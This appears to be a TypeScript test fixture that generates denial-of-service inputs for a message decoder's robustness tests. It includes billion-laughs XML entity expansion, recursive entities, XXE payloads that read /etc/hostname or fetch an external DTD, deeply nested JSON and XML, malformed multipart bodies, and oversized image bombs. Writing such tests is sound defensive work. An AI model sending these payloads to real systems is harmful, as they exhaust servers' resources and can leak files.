/** Bombs: messages that are small or plain to look at and made to cost their receiver its time or its memory. */
import type { Adapter, DecodeContext, Message } from '../words/message.ts';
import type { PictureBytes } from '../words/picture.ts';
import type { Case } from './case-files.ts';
import { jpegBomb, pngBomb } from './fuzz-values.ts';

export type Bomb = {
  readonly name: string;
  readonly contentType: string;
  /** Made when it is asked for: all of them together would be large themselves. */
  readonly bytes: () => Uint8Array;
};

const size = 1_000_000;
const depth = 100_000;
const form = 'multipart/form-data; boundary=b';

/** Each entity ten of the one before: a gigabyte, were they replaced. */
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

/** Kept as functions of no argument, so that each is made alone. */
const texts: Readonly<Record<string, () => string>> = {
  'entities of entities': () => `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`,
  'entities in one another': () => '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
  'an entity of a file': () => '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hostname">]><a>&f;</a>',
  'an entity of parameters': () => '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.66/x.dtd">%p;]><a/>',
  'a DOCTYPE that does not end': () => `<!DOCTYPE a [${'<!ENTITY a "b">'.repeat(60_000)}`,
  'numbered characters': () => `<a>${'&#65;'.repeat(size / 5)}</a>`,
  'elements in elements': () => '<a>'.repeat(depth) + '</a>'.repeat(depth),
  'elements that do not end': () => '<a>'.repeat(size / 3),
  'elements beside elements': () => `<a>${'<b/>'.repeat(size / 4)}</a>`,
  'attributes beside attributes': () => `<a ${'b="c" '.repeat(size / 6)}/>`,
  'attributes of their own names': () => `<a ${Array.from({ length: depth }, (_, at) => `b${at}="c"`).join(' ')}/>`,
  'a name that does not end': () => `<${'a'.repeat(size)}`,
  'a comment that does not end': () => `<a><!--${'- -'.repeat(size / 3)}`,
  'CDATA that does not end': () => `<a><![CDATA[${']]'.repeat(size / 2)}`,
  'an instruction that does not end': () => `<a><?${'? '.repeat(size / 2)}`,
  'comments beside comments': () => `<a>${'<!---->'.repeat(size / 7)}</a>`,
  'openings of tags': () => '<'.repeat(size),
  'text in an element': () => `<a>${'x '.repeat(size / 2)}</a>`,
  'lists in lists': () => '['.repeat(depth) + ']'.repeat(depth),
  'lists that do not end': () => '['.repeat(size),
  'objects in objects': () => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
  'objects that do not end': () => '{"a":'.repeat(size / 5),
  'objects in a list': () => `[${'{},'.repeat(size / 3)}{}]`,
  'keys of their own names': () => `{${Array.from({ length: 80_000 }, (_, at) => `"k${at}":1`).join(',')}}`,
  'the same key again': () => `{${'"plate":"",'.repeat(80_000)}"plate":""}`,
  'a number that does not end': () => `{"capturedAt":${'9'.repeat(size)}}`,
  'text that does not end': () => `{"capturedAt":"${'x'.repeat(size)}`,
  'escapes in a text': () => `{"capturedAt":"${'\\u0041'.repeat(size / 6)}"}`,
  'quotes and backslashes': () => '\\"'.repeat(size / 2),
  'single quotes': () => `{${"'a':'b',".repeat(size / 8)}}`,
  'lines of objects': () => '{"capturedAt":"x"}\n'.repeat(size / 19),
  'lines of keys': () => Array.from({ length: 60_000 }, (_, at) => `plate_${at}=X`).join('\n'),
  'lines of one key': () => 'plate_0=X\n'.repeat(size / 10),
  'lines of events': () => Array.from({ length: 30_000 }, (_, at) => `Events[${at % 9999}].UTC=1`).join('\n'),
  'codes of events': () => 'Code=a;action=b;index=0;data={}\n'.repeat(size / 32),
  'a line that does not end': () => `Code=${'a'.repeat(size)}`,
  'fields of a form': () => `json=${'%7B'.repeat(10)}&${'a=b&'.repeat(size / 4)}`,
  'bars between nothing': () => '|'.repeat(size),
  'line ends': () => '\r\n'.repeat(size / 2),
  spaces: () => ' '.repeat(size),
  'zero bytes': () => '\0'.repeat(size),
};

const formTexts: Readonly<Record<string, () => string>> = {
  'a part that does not end': () => `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${'x'.repeat(size)}`,
  'a head that does not end': () => `--b\r\nContent-Disposition: ${'x'.repeat(size)}`,
  'lines of a head that do not end': () => `--b\r\n${'a: b\r\n'.repeat(size / 6)}`,
  'parts without an end': () => '--b\r\n\r\nx\r\n'.repeat(size / 10),
  'parts of nothing': () => '--b\r\n'.repeat(size / 5),
  'what is nearly a boundary': () => `--b\r\n\r\n${'\r\n--'.repeat(size / 4)}`,
  'hyphens in place of parts': () => '-'.repeat(size),
  'a field that does not end': () => `--b\r\nContent-Disposition: form-data; name="${'\\"'.repeat(size / 2)}`,
};

export const bombs: readonly Bomb[] = [
  ...Object.entries(texts).map(([name, text]) => ({ name, contentType: '', bytes: () => Buffer.from(text()) })),
  ...Object.entries(formTexts).map(([name, text]) => ({ name, contentType: form, bytes: () => Buffer.from(text()) })),
  { name: 'bytes that are no text', contentType: '', bytes: () => Buffer.alloc(size, 0xff) },
  { name: 'text of two bytes', contentType: '', bytes: () => Buffer.alloc(size, Buffer.from('fffe3c00', 'hex')) },
];

/** A case of the adapter, in which a picture was replaced by one that says it has 65,000 x 65,000 pixels. */
export function pictureBombsOf(
  adapter: Adapter,
  cases: readonly Case[],
): { name: string; message: Message; context: DecodeContext }[] {
  return cases.flatMap((one) => {
    const { name, message } = one;
    const { reads, laterPictures } = adapter.decode(message, one);
    const images = [...reads.flatMap((read) => read.images), ...laterPictures.map(({ image }) => image)];
    const bytes = images.map((image) => withBomb(message.bytes, image)).find((found) => found !== null);
    return bytes ? [{ name, message: { ...message, bytes }, context: one }] : [];
  });
}

/** As long as the picture that it stands for, so that a length that the message tells stays true. */
function withBomb(bytes: Uint8Array, { contentType, data }: PictureBytes): Uint8Array | null {
  const bomb = contentType === 'image/png' ? pngBomb : jpegBomb;
  const written = Buffer.alloc(Math.max(bomb.length, data.length));
  written.set(bomb);
  const whole = Buffer.from(bytes);
  const picture = Buffer.from(data);
  for (const encoding of ['latin1', 'base64'] as const) {
    const [from, to] = [picture.toString(encoding), written.toString(encoding)];
    const text = whole.toString('latin1');
    if (text.includes(from))
      return Buffer.from(
        text.replaceAll(from, () => to),
        'latin1',
      );
  }
  return null;
}
